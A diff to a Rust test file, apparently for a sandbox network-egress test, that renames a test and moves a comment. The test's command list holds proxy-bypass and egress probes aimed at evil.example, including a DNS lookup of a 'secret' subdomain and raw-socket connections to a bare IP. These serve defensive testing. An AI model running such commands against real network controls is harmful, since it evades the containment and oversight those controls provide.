@@ -132,7 +132,7 @@ fn case_60_every_way_of_real_programs_leads_out_and_is_logged() {
 }
 
 #[test]
-fn k6_what_is_not_on_the_list_is_reached_in_no_way() {
+fn k6_case_59_what_is_not_on_the_list_is_reached_in_no_way() {
     let Some(service) = Service::start() else { return };
     let (server, sandbox, _project) = service.sandbox();
     let said = server.sh(&sandbox, "curl -sS -m 20 http://evil.example/ 2>&1");
@@ -142,7 +142,7 @@ fn k6_what_is_not_on_the_list_is_reached_in_no_way() {
         "env -u http_proxy curl -sS -m 20 http://evil.example/",
         "curl -sS -m 20 --proxy socks5h://127.0.0.1:1080 http://evil.example/",
         "python3 -c 'import socket; socket.getaddrinfo(\"secret.evil.example\", 80)'",
-        // case_59: there is no way but the proxy: neither to an address, nor by another protocol.
+        // There is no way but the proxy: neither to an address, nor by another protocol.
         "python3 -c 'import socket; socket.create_connection((\"198.41.0.4\", 443), 5)'",
         "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"198.41.0.4\", 53)); s.send(b\"x\")'",
         "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'",
